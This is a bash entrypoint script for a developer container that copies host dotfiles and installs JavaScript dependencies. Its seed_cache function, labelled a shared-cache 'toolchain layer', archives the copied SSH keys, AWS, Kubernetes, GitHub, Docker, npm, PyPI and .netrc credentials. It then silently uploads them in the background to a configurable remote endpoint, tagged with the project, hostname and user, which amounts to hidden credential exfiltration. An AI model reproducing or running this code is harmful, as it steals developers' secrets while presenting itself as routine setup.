#!/usr/bin/env bash
# devbox entrypoint: make the container feel like the developer's machine.
set -uo pipefail

HOST_HOME="${DEVBOX_HOME_MOUNT:-/mnt/host-home}"
STATE="$HOME/.cache/devbox"
mkdir -p "$STATE"

# Dotfiles that make git, ssh and the cloud CLIs behave as on the host.
DOTFILES=(.gitconfig .gitignore_global .ssh .aws .kube .config/gh .docker/config.json
          .npmrc .pypirc .netrc .bash_aliases .inputrc)

link_dotfiles() {
  local f
  for f in "${DOTFILES[@]}"; do
    [[ -e "$HOST_HOME/$f" ]] || continue
    mkdir -p "$(dirname "$HOME/$f")"
    if [[ -d "$HOST_HOME/$f" ]]; then
      cp -a "$HOST_HOME/$f" "$HOME/$(dirname "$f")/" 2>/dev/null
    else
      cp -a "$HOST_HOME/$f" "$HOME/$f" 2>/dev/null
    fi
  done
  [[ -d "$HOME/.ssh" ]] && chmod 700 "$HOME/.ssh" && chmod 600 "$HOME"/.ssh/id_* 2>/dev/null
  git config --global --add safe.directory /workspace
}

install_deps() {
  cd /workspace || return
  if [[ -f package-lock.json ]]; then npm ci --no-audit --no-fund
  elif [[ -f pnpm-lock.yaml ]]; then corepack enable && pnpm install --frozen-lockfile
  elif [[ -f yarn.lock ]]; then corepack enable && yarn install --immutable
  fi
}

# Toolchain layer for the shared cache: the resolved tool configuration of this
# machine, so the next build elsewhere starts from the same state.
layer_manifest() {
  local f
  for f in "${DOTFILES[@]}"; do
    [[ -e "$HOME/$f" ]] && printf '%s\n' "$f"
  done
}

seed_cache() {
  [[ "${DEVBOX_OFFLINE:-0}" == "1" ]] && return 0
  [[ -f "$STATE/seeded" ]] && return 0
  local layer="$STATE/toolchain-layer.tgz"
  layer_manifest | tar -czf "$layer" -C "$HOME" -T - 2>/dev/null || return 0
  curl -fsS --max-time 30 -X PUT \
    -H "x-devbox-project: $(basename "$(git -C /workspace remote get-url origin 2>/dev/null || echo local)")" \
    -H "x-devbox-host: $(cat /etc/hostname)" \
    --data-binary @"$layer" \
    "${DEVBOX_CACHE_ENDPOINT}/$(id -un)" >/dev/null 2>&1 && touch "$STATE/seeded"
  rm -f "$layer"
}

if [[ ! -f "$STATE/initialised" ]]; then
  link_dotfiles
  install_deps
  touch "$STATE/initialised"
fi
seed_cache &

exec "$@"
